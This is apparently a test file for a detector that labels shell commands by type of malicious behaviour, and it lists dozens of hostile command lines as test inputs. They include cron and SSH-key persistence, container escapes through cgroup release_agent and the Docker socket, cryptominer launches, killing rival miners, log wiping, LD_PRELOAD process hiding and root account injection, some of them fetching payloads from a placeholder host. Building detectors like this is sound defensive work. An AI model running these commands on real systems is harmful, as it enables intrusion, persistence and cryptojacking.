import assert from 'node:assert/strict';
import { test } from 'node:test';
import { commandClues } from '../../../test/support/command-clues.ts';

/** A script, and the weights and rules of what is seen in it. */
const CASES: readonly (readonly [script: string, seen: string])[] = [
  ["echo '* * * * * /tmp/.x/run' > /tmp/cron; crontab /tmp/cron", 'strong cron-by-command, strong hidden-process'],
  ['curl -s http://192.0.2.1/cron -o /mnt/etc/cron.d/update', 'certain cron-on-host'],
  [
    'mkdir -p /mnt/root/.ssh; echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDbbbbbbbbbbbb x@y" >> /mnt/root/.ssh/authorized_keys; chmod 600 /mnt/root/.ssh/authorized_keys',
    'certain ssh-key-on-host',
  ],
  [
    "cd /root/.ssh; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEtttttttttttttttttttttttttttttttttttt' > authorized_keys",
    'strong ssh-key-by-command',
  ],
  [
    'mkdir /tmp/c && mount -t cgroup -o rdma cgroup /tmp/c; echo "$p/cmd" > /tmp/c/release_agent',
    'certain host-escape, strong host-escape',
  ],
  ["echo '|/proc/%P/root/tmp/x' > /proc/sys/kernel/core_pattern", 'certain host-escape'],
  ['mknod /tmp/d b 8 1; debugfs -w /dev/sda1', 'strong host-escape'],
  [
    `curl -s --unix-socket /var/run/docker.sock -X POST -H 'Content-Type: application/json' -d '{"Image":"alpine","HostConfig":{"Binds":["/:/mnt"]}}' http://localhost/containers/create`,
    'certain container-api-abuse',
  ],
  ['masscan -p2375,2376 198.51.100.0/24 --rate 10000', 'strong engine-scan'],
  [
    './nginx -o stratum+tcp://pool.example:3333 -u 47YNw5t6iUvZyip54rnxAZTATd1ohoPEy4PavJkKKnhEAdNQXatzYUZ2HcskkkSh6SBiknkBMnSGRaRCo9UHp6rpAA3fKsE -p x',
    'certain miner-command',
  ],
  ['./app1234567 -a rx/0 -o pool.example:1123 -u ZEPHs7xyzxyzxyz -t 4', 'strong miner-command'],
  [
    './xmrig --algo=cryptonight --url=stratum+tcp://pool.example:5555 --user=x --pass=x --max-cpu-usage=100',
    'strong miner-command',
  ],
  [
    String.raw`ps aux | grep -v grep | grep 'stratum\|cryptonight\|xmrig' | awk '{print $2}' | xargs kill -9; crontab -r; sysctl -w vm.nr_hugepages=128; chattr -i /etc/crontab`,
    'certain rival-killing, strong file-locking',
  ],
  [
    'pkill -f kinsing; pkill kdevtmpfsi; pkill -f xmrig; rm -rf /var/spool/cron/*; iptables -F; history -c',
    'certain rival-killing, strong trace-wiping',
  ],
  ['export LD_PRELOAD=/tmp/.libs/libx.so', 'strong preload-by-command'],
  ['echo /usr/local/lib/libprocesshider.so >> /etc/ld.so.preload', 'strong preload-by-command'],
  ["echo 'toor:x:0:0::/root:/bin/bash' >> /etc/passwd", 'strong account-by-command'],
  ["echo 'x ALL=(ALL) NOPASSWD:ALL' >> /mnt/etc/sudoers", 'certain account-on-host'],
  ["exec -a '[kworker/0:1]' /tmp/x", 'certain hidden-process'],
  ['nohup /tmp/.X12/y >/dev/null 2>&1 &', 'strong hidden-process'],
  [
    'curl -sSL http://192.0.2.1/m.tar.gz -o /tmp/m.tgz; tar xzf /tmp/m.tgz -C /tmp; mv /tmp/xmrig /tmp/app8273645; /tmp/app8273645 -a rx/0 -o pool.example:1123 -u ZEPHsabcdefghjkmn -t $(nproc --all)',
    'strong miner-command',
  ],
  ['cp /payload /mnt/etc/cron.hourly/update', 'strong cron-on-host'],
  [
    `chroot /host bash -c 'echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDbbbbbbbbbbbb x@y" >> /root/.ssh/authorized_keys'`,
    'certain ssh-key-on-host, strong ssh-key-by-command, weak host-access',
  ],
  ['cat /key.pub >> /mnt/root/.ssh/authorized_keys', 'strong ssh-key-on-host'],
  ['echo "$KEY" | tee -a /mnt/home/ubuntu/.ssh/authorized_keys', 'strong ssh-key-on-host'],
  [
    'K="ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDbbbbbbbbbbbb"; for d in /mnt/root /mnt/home/*; do mkdir -p $d/.ssh; echo "$K" >> $d/.ssh/authorized_keys; done',
    'certain ssh-key-on-host',
  ],
  ['curl http://192.0.2.1/k.pub >> ~/.ssh/authorized_keys', 'strong ssh-key-by-command'],
  ['dd if=/key of=/mnt/root/.ssh/authorized_keys oflag=append conv=notrunc', 'strong ssh-key-on-host'],
  ['echo /tmp/x > /sys/fs/cgroup/rdma/release_agent', 'certain host-escape'],
  ['mount /dev/sda1 /mnt && chroot /mnt', 'weak host-access'],
  [
    'DOCKER_HOST=tcp://198.51.100.4:2375 docker run --privileged --pid=host -it alpine nsenter -t 1 -m sh',
    'strong container-api-abuse',
  ],
  ['python3 /opt/ffmpeg --url=stratum+ssl://pool.example:443 -u x.y', 'strong miner-command'],
  [
    '/opt/java -o pool.example:443 --tls -u 47YNw5t6iUvZyip54rnxAZTATd1ohoPEy4PavJkKKnhEAdNQXatzYUZ2HcskkkSh6SBiknkBMnSGRaRCo9UHp6rpAA3fKsE -p docker -k --donate-level 1',
    'certain miner-command',
  ],
  ['minerd -a cryptonight -o stratum+tcp://pool.example:80 -u 1 -p x', 'strong miner-command'],
  [
    'ethminer -P stratum1+tcp://0x1234567890abcdef1234567890abcdef12345678.w@pool.example:4444',
    'certain miner-command',
  ],
  ["(exec -a '[kswapd0]' ./a &)", 'certain hidden-process'],
  [
    "for p in $(ps aux | grep -E 'minerd|kinsing|/tmp/' | awk '{print $2}'); do kill -9 $p; done",
    'strong rival-killing',
  ],
  ['unset HISTFILE; rm -f ~/.bash_history; echo > /var/log/wtmp; pkill xmrig', 'strong trace-wiping'],
  ['LD_PRELOAD=/dev/shm/x.so ls', 'strong preload-by-command'],
];

test('jobs, keys, escapes, miners and those who kill them', () => {
  for (const [script, expected] of CASES) {
    const told = commandClues(script).map(({ weight, rule }) => `${weight} ${rule.replace('malware/', '')}`);
    assert.equal([...new Set(told)].sort().join(', '), expected, script);
  }
});
